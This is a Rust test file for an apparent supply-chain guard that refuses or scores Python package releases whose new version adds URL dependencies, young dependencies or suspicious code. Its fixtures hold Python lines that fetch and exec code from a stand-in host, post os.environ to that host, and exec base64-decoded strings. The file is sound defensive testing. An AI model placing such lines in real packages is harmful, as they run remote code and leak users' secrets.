//! A release is compared with the one that was read here before it.

use crate::support::{Bulkhead, Fault, Registry, Upload, Wheel};

const FOREIGN: &str = "helper @ https://files.test/helper-1.0-py3-none-any.whl";

fn published(registry: &Registry, version: &str, requires: &[&str]) -> Upload {
    let wheel = requires.iter().fold(Wheel::new("demo", version), |wheel, requirement| wheel.requires(requirement));
    registry.publish(Upload::from(wheel).days_old(90))
}

#[test]
fn what_is_new_against_the_release_before_is_held_and_shown() {
    let registry = Registry::start();
    let good = published(&registry, "1.0.0", &[]);
    let changed = published(&registry, "1.0.1", &[FOREIGN]);
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&good).status, 200);
    let refused = bulkhead.fetch(&changed);
    assert_eq!((refused.status, refused.code().as_str()), (403, "intake-delta-hold"), "{}", refused.text());
    assert!(refused.text().contains("new in 1.0.1 against 1.0.0: it now asks for helper"), "{}", refused.text());
    assert_eq!(bulkhead.page("demo").listed(), [good.filename()], "the next resolve chooses the release before");

    let explained = bulkhead.run(&["explain", "pkg:pypi/demo@1.0.1"]);
    let text = explained.all();
    for words in [
        "intake-delta-hold",
        "| helper @ https://files.test/",
        "why it matters: High when it comes from a URL",
        "delta.from = 1.0.0",
        "delta.new = dependency:helper",
    ] {
        assert!(text.contains(words), "no {words:?} in\n{text}");
    }
    assert!(text.lines().count() < 50, "one screen:\n{text}");
}

#[test]
fn a_release_without_one_before_it_is_not_held_for_that() {
    let registry = Registry::start();
    let first = published(&registry, "1.0.1", &[FOREIGN]);
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&first).status, 200);
    let facts = bulkhead.run(&["explain", "pkg:pypi/demo@1.0.1", "--format", "json"]);
    let facts: serde_json::Value = serde_json::from_str(&facts.all()).expect("one JSON document");
    let attributes = &facts["files"][0]["facts"]["attributes"];
    assert_eq!((&attributes["content.judged"], &attributes["delta.from"]), (&true.into(), &serde_json::Value::Null));
    assert_eq!(attributes["content.score"], 0);
}

#[test]
fn a_delta_outlives_a_restart() {
    let registry = Registry::start();
    let (good, changed) = (published(&registry, "1.0.0", &[]), published(&registry, "1.0.1", &[FOREIGN]));
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&good).status, 200);
    assert_eq!(bulkhead.fetch(&changed).status, 403);
    let bulkhead = bulkhead.kill().start();
    assert_eq!(bulkhead.page("demo").listed(), [good.filename()]);
    assert_eq!(bulkhead.fetch(&changed).code(), "intake-delta-hold");
    assert_eq!(registry.asked_for(changed.filename()), 1, "read again from our own blob");
}

/// The second poisoned release must not be measured by the first.
#[test]
fn a_refused_release_is_no_measure_for_the_next() {
    let registry = Registry::start();
    let release = |version: &str, init: &str| {
        registry.publish(Upload::from(Wheel::new("demo", version).file("demo/more.py", init)).days_old(90))
    };
    let inert = "import base64\nexec(base64.b64decode(\"cGFzcw==\"))\n";
    let good = release("1.0.0", "X = 1\n");
    let (first, second) = (release("1.0.1", inert), release("1.0.2", inert));
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&good).status, 200);
    for refused in [&first, &second] {
        let reply = bulkhead.fetch(refused);
        assert_eq!(reply.status, 403, "{}", reply.text());
    }
    let text = bulkhead.run(&["explain", "pkg:pypi/demo@1.0.2"]).all();
    assert!(text.contains("delta.from = 1.0.0") && text.contains("demo/more.py:2"), "{text}");
}

/// axios 1.14.1: a dependency that was a day old, and that nothing imports.
#[test]
fn a_new_dependency_that_nothing_imports_is_held_while_it_is_young() {
    let registry = Registry::start();
    let code = |version: &str| Wheel::new("demo", version).file("demo/more.py", "import json\n");
    let good = registry.publish(Upload::from(code("1.0.0")).days_old(90));
    let asks = |version: &str, name: &str| registry.publish(Upload::from(code(version).requires(name)).days_old(30));
    registry.publish(Upload::from(Wheel::new("plain-crypto", "4.2.1")).days_old(31));
    registry.publish(Upload::from(Wheel::new("old-crypto", "4.2.1")).days_old(700));
    registry.publish(Upload::from(Wheel::new("untold", "1.0")).without_time());
    let (young, old, untold) = (asks("1.0.1", "plain-crypto"), asks("1.0.2", "old-crypto"), asks("1.0.3", "untold"));
    let (gone, used) = (asks("1.0.4", "gone-crypto"), {
        let wheel = code("1.0.5").requires("plain-crypto").file("demo/use.py", "import plain_crypto\n");
        registry.publish(Upload::from(wheel).days_old(30))
    });
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&good).status, 200);
    let refused = bulkhead.fetch(&young);
    assert_eq!((refused.status, refused.code().as_str()), (403, "intake-young-dependency"), "{}", refused.text());
    for words in ["it asks for plain-crypto", "1 day old when this was uploaded", "stay on 1.0.0"] {
        assert!(refused.text().contains(words), "no {words:?} in {}", refused.text());
    }
    let explained = bulkhead.run(&["explain", "pkg:pypi/demo@1.0.1"]).all();
    assert!(explained.contains("delta.new_dependency = plain-crypto"), "{explained}");
    for fine in [&old, &untold, &gone, &used] {
        let reply = bulkhead.fetch(fine);
        assert_eq!(reply.status, 200, "{}: {}", fine.filename(), reply.text());
    }
    let page = bulkhead.page("demo");
    assert!(!page.listed().contains(&young.filename().to_owned()), "{:?}", page.listed());
}

/// Facts are never guessed: while the registry does not say how old it is, the release waits, and no longer.
#[test]
fn a_new_dependency_whose_registry_is_down_is_asked_for_again() {
    let registry = Registry::start();
    let code = |version: &str| Wheel::new("demo", version).file("demo/more.py", "import json\n");
    let good = registry.publish(Upload::from(code("1.0.0")).days_old(90));
    let next = registry.publish(Upload::from(code("1.0.1").requires("old-crypto")).days_old(30));
    registry.publish(Upload::from(Wheel::new("old-crypto", "4.2.1")).days_old(700));
    registry.fault("/simple/old-crypto/", Fault::Status(500));
    let bulkhead = Bulkhead::before(&registry);
    assert_eq!(bulkhead.fetch(&good).status, 200);
    let refused = bulkhead.fetch(&next);
    assert_eq!((refused.status, refused.code().as_str()), (403, "intake-unknown-source"), "{}", refused.text());
    assert!(refused.text().contains("new-dependency"), "{}", refused.text());
    registry.heal();
    // What was decided stands for a minute; a new server has not decided anything yet.
    assert_eq!(bulkhead.kill().start().fetch(&next).status, 200);
}

/// Issue 3: the same lines are refused where they run unasked and only counted where somebody has to call them.
#[test]
fn what_acts_only_when_called_raises_the_score_of_a_known_project_and_refuses_nothing() {
    const FETCH: &str = "exec(urllib.request.urlopen('https://collect.test/a').read())";
    const STEAL: &str = "requests.post('https://collect.test/', json=dict(os.environ))";
    // It starts the program `true`: decoded it acts, and harms nobody.
    const DECODE: &str = "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScp'))";
    for payload in [FETCH, STEAL, DECODE] {
        let registry = Registry::start();
        let release = |name: &str, version: &str, unasked: &str, called: &str| {
            let client = format!(
                "import base64, os, requests, urllib.request\n{}{unasked}\n\ndef last(client):\n    {called}\n    return client\n",
                (0..100).map(|at| format!("def f{at}(value):\n    return value + {at}\n\n")).collect::<String>(),
            );
            let wheel = Wheel::new(name, version).file(&format!("{name}/client.py"), client);
            registry.publish(Upload::from(wheel).days_old(90))
        };
        let clean = release("demo", "1.0.0", "", "pass");
        let called = release("demo", "1.0.1", "", payload);
        let unasked = release("demo", "1.0.2", payload, "pass");
        let first = release("fresh", "1.0.0", "", payload);
        let bulkhead = Bulkhead::before(&registry);
        assert_eq!(bulkhead.fetch(&clean).status, 200);
        let reply = bulkhead.fetch(&called);
        assert_eq!(reply.status, 200, "{payload}: {}", reply.text());
        let facts = |version: &str| {
            let screen = bulkhead.run(&["explain", &format!("pkg:pypi/demo@{version}"), "--format", "json"]);
            let all: serde_json::Value = serde_json::from_str(&screen.all()).expect("one JSON document");
            all["files"][0]["facts"]["attributes"].clone()
        };
        assert_eq!(facts("1.0.0")["content.score"], 0);
        assert!(facts("1.0.1")["content.score"].as_i64() > Some(20), "{payload}: {:#}", facts("1.0.1"));
        assert!(facts("1.0.1")["delta.score"].as_i64() > Some(0), "{payload}: {:#}", facts("1.0.1"));
        let refused = bulkhead.fetch(&unasked);
        assert_eq!(refused.status, 403, "{payload}: {}", refused.text());
        // Where nobody knows the project, somebody looks first.
        assert_eq!(bulkhead.fetch(&first).status, 403, "{payload}");
    }
}

/// A project that is held as new here must not get in by publishing the same once more.
#[test]
fn a_release_that_was_held_for_what_it_does_when_called_is_no_history() {
    let registry = Registry::start();
    let release = |version: &str| {
        let code =
            "import urllib.request\ndef go():\n    exec(urllib.request.urlopen('https://collect.test/a').read())\n";
        registry.publish(Upload::from(Wheel::new("fresh", version).file("fresh/go.py", code)).days_old(90))
    };
    let (first, second) = (release("1.0.0"), release("1.0.1"));
    let bulkhead = Bulkhead::before(&registry);
    for refused in [&first, &second] {
        let reply = bulkhead.fetch(refused);
        assert_eq!((reply.status, reply.code().as_str()), (403, "intake-called-behaviour"), "{}", reply.text());
    }
}
